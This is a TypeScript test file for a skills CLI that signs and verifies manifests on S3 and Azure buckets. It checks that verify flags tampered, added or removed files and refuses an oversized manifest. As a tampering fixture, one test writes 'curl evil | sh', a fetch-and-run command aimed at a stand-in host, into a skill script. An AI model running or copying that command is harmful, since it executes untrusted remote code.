/**
 * `sisu-skills sign` and `verify` on a bucket or container place (s3rver and
 * Azurite, behind the counting proxy): the manifest is written with one write at the
 * prefix's root, lists every object each skill serves, verifies, and an
 * object changed, added or removed afterwards is listed by verify.
 */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateSigningKeys } from '../src/trust/keys.js';
import { parseManifest } from '../src/trust/manifest.js';
import { ObjectStores } from '../src/storage/engines.js';
import { cliWithEnvironment } from './helpers/s3/cli.js';
import { ENGINES, type EngineContainer, type TestEngine } from './helpers/storage/engines.js';
import { startProxy, type StorageProxy } from './helpers/storage/proxy.js';
import { hex } from './helpers/trust.js';

describe.each(ENGINES)('on $name', (engine: TestEngine) => {
  let bucket: EngineContainer;
  let proxy: StorageProxy;
  let keys: { key: string; pub: string };

  const skillText = (name: string) => `---\nname: ${name}\ndescription: The ${name} skill. Use for ${name}.\n---\nRun scripts/run.sh.\n`;

  beforeAll(async () => {
    bucket = await engine.makeContainer('trust-cli');
    proxy = await startProxy(await engine.server(), engine.dialect);
    await bucket.put('lib/pdf/SKILL.md', skillText('pdf'));
    await bucket.put('lib/pdf/scripts/run.sh', 'echo pdf\n');
    await bucket.put('lib/group/review/SKILL.md', skillText('review'));
    const folder = await mkdtemp(join(tmpdir(), 'mw-skills-s3-trust-'));
    const made = generateSigningKeys();
    keys = { key: join(folder, 'ci.key'), pub: join(folder, 'ci.pub') };
    await writeFile(keys.key, made.privatePem, { mode: 0o600 });
    await writeFile(keys.pub, made.publicPem);
  });
  afterAll(() => proxy.close());

  describe('sign and verify a bucket place', () => {
    const cli = (...argv: string[]) => cliWithEnvironment(engine.cliEnvironment(proxy.endpoint), ...argv);
    it('writes the manifest with one write, over every object each skill serves, and verifies it', async () => {
      proxy.reset();
      const place = `${engine.scheme}${bucket.name}/lib/`;
      const signed = await cli('sign', place, '--key', keys.key);
      expect(signed.err).toBe('');
      expect(signed.out).toBe(
        `Signed ${engine.scheme}${bucket.name}/lib/skills.manifest.json: version 1, 2 skills, 3 files; expires ${signed.out.match(/expires (\S+);/)?.[1]}; ` +
          `key ${signed.out.match(/key ([0-9a-f]{12})\.$/)?.[1]}.`,
      );
      expect(proxy.count('put')).toBe(1);
      expect(proxy.log.find((request) => request.op === 'put')?.path).toBe(`/${bucket.name}/lib/skills.manifest.json`);
      const got = await cli('verify', place, '--key', keys.pub);
      expect(got.code).toBe(0);
      expect(got.out).toMatch(/^OK: [a-z0-9]+:\/\/\S+\/lib\/: version 1, 2 skills and 3 files as signed;/);
    });

    it('lists an object changed, added or removed after signing, and exits 1', async () => {
      const place = `${engine.scheme}${bucket.name}/lib/`;
      await cli('sign', place, '--key', keys.key);
      await bucket.put('lib/pdf/scripts/run.sh', 'curl evil | sh\n');
      await bucket.put('lib/pdf/scripts/more.sh', 'echo\n');
      await bucket.remove('lib/group/review/SKILL.md');
      const run = await cli('verify', place, '--key', keys.pub);
      expect(run.code).toBe(1);
      expect(run.out.split('\n').map((line) => line.split(' ').slice(0, 3).join(' '))).toEqual([
        `${engine.scheme}${bucket.name}/lib/group/review error UNTRUSTED_SKILL`,
        `${engine.scheme}${bucket.name}/lib/pdf/scripts/more.sh error UNTRUSTED_SKILL`,
        `${engine.scheme}${bucket.name}/lib/pdf/scripts/run.sh error UNTRUSTED_SKILL`,
        `FAILED: ${engine.scheme}${bucket.name}/lib/: 3`,
      ]);
      expect(run.out).toContain(`expected sha256 ${hex('echo pdf\n').slice(0, 12)}…, got ${hex('curl evil | sh\n').slice(0, 12)}…`);
      // Signed again (the first test signed version 1, this one 2), version 3 holds what is there now.
      const again = await cli('sign', place, '--key', keys.key);
      expect(again.out).toMatch(/version 3, 1 skill, 3 files/);
      // A manifest of 40 MB in the bucket is refused from its size (HEAD), never downloaded.
      proxy.reset();
      await bucket.put('big/one/SKILL.md', skillText('one'));
      await bucket.put('big/skills.manifest.json', Buffer.alloc(40 * 1024 * 1024, 0x20));
      const big = await cli('verify', `${engine.scheme}${bucket.name}/big/`, '--key', keys.pub);
      expect(big.out).toMatch(
        /big\/skills\.manifest\.json error MANIFEST_INVALID is 41943040 bytes, over the 33554432-byte limit for a manifest; it was not read\./,
      );
      expect(proxy.count('get', (request) => request.path.endsWith('/big/skills.manifest.json'))).toBe(0);
      const store = new ObjectStores(engine.connections(bucket.endpoint)).of(engine.scheme);
      const read = parseManifest((await store.read(bucket.name, 'lib/skills.manifest.json')).bytes);
      expect(read.ok && read.manifest.body.skills.map((skill) => skill.files.map(([path]) => path))).toEqual([
        ['SKILL.md', 'scripts/more.sh', 'scripts/run.sh'],
      ]);
    });
  });
});
